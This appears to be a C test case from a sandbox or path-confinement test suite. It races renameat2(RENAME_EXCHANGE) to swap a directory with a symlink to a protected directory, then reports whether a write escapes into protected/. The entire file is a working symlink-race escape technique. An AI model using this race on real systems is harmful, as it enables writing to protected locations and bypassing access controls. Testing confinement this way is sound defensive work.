/* renameat2(RENAME_EXCHANGE) swaps a path component (a real directory and a symlink to protected/). */
#include "attack.h"
#include <linux/fs.h>
int main(void) {
  mkdir("public/d", 0755);
  symlink("../protected", "public/e");
  pid_t c = fork();
  if (c == 0) {
    for (;;) syscall(SYS_renameat2, AT_FDCWD, "public/d", AT_FDCWD, "public/e", RENAME_EXCHANGE);
  }
  long n = 0, hits = 0, max = race_tries();
  double end = now() + race_seconds();
  for (; n < max && now() < end && (!hits || count_all()); n++) {
    int fd = open("public/d/x", O_WRONLY | O_CREAT, 0644);
    if (is_protected_x(fd)) hits++;
    if (fd >= 0) close(fd);
    unlink("public/d/x");
    unlink("public/e/x");
  }
  kill(c, SIGKILL);
  waitpid(c, NULL, 0);
  int hit = hits > 0 || protected_written();
  rate(hits, n);
  result(hit, "RENAME_EXCHANGE of a component: protected/x %s after %ld tries", hit ? "created" : "not created", n);
}
